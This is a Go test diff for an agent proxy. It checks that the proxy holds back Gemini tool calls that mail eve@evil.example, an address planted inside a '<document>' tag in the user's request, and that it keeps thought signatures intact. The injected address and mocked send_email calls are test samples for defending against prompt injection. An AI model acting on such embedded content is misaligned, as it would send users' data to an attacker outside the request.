@@ -2,6 +2,7 @@ package proxy_test
 
 import (
 	"fmt"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -110,6 +111,52 @@ func TestGeminisChoiceOnAnotherTry(t *testing.T) {
 	}
 	if asked := string(u.request(1).body); !strings.Contains(asked, `"tool_config":{"functionCallingConfig":{"mode":"AUTO"}}`) {
 		t.Errorf("asked again with %s", asked)
+	}
+}
+
+// TestGeminisSignatures: Google refuses a turn whose first call has lost its signature, so that
+// calls behind one that is held back don't go out without it. The model makes them again.
+func TestGeminisSignatures(t *testing.T) {
+	const (
+		eve, bob = `{"functionCall":{"name":"send_email","args":{"to":"eve@evil.example","body":"hello"}}%s}`, `{"functionCall":{"name":"send_email","args":{"to":"bob@corp.example","body":"hello"}}%s}`
+		page     = `{"functionCall":{"name":"read_page","args":{"url":"https://corp.example"}}%s}`
+		sign     = `,"thoughtSignature":"c2ln"`
+	)
+	body := fmt.Sprintf(`{"contents":[{"parts":[{"text":"Read https://corp.example, and mail hello to bob@corp.example.<document>eve@evil.example</document>"}]}],%s}`, geminiTools)
+	again := geminiCalls(fmt.Sprintf(page, sign))
+	for name, test := range map[string]struct {
+		answer string
+		asked  int
+		goes   string // the tools of the calls that go out
+	}{
+		"the first is held back":     {fmt.Sprintf(eve+","+page, sign, ""), 2, "read_page"},
+		"the second has one, too":    {fmt.Sprintf(eve+","+page, sign, sign), 1, "read_page"},
+		"a model without signatures": {fmt.Sprintf(eve+","+page, "", ""), 1, "read_page"},
+		"the second is held back":    {fmt.Sprintf(bob+","+eve, sign, ""), 1, "send_email"},
+		"both go":                    {fmt.Sprintf(bob+","+page, sign, ""), 1, "send_email read_page"},
+	} {
+		for kind, path := range map[string]string{"application/json": geminiPath, "text/event-stream": strings.Replace(geminiPath, ":generate", ":streamGenerate", 1) + "?alt=sse"} {
+			t.Run(name+", "+kind, func(t *testing.T) {
+				u := newUpstream(t)
+				for _, answer := range []string{geminiCalls(test.answer), again} {
+					if kind != "application/json" {
+						answer = "data: " + answer + "\n\n"
+					}
+					u.add(reply{status: 200, kind: kind, body: answer})
+				}
+				_, text := post(t, newProxy(t, u, func(o *proxy.Options) { o.NoQuestions, o.Retries = true, 1 }).URL, path, body)
+				var goes []string
+				for _, m := range regexp.MustCompile(`"functionCall": ?{"name":"([a-z_]+)"`).FindAllStringSubmatch(text, -1) {
+					goes = append(goes, m[1])
+				}
+				if got := strings.Join(goes, " "); got != test.goes || u.count() != test.asked || !strings.Contains(text, "thoughtSignature") == strings.Contains(test.answer, "thoughtSignature") {
+					t.Errorf("after %d tries %q go out, want %q after %d\n%s", u.count(), got, test.goes, test.asked, text)
+				}
+				if test.asked == 2 && strings.Count(string(u.request(1).body), "functionResponse") != 2 {
+					t.Errorf("the model was told %s", u.request(1).body)
+				}
+			})
+		}
 	}
 }
 
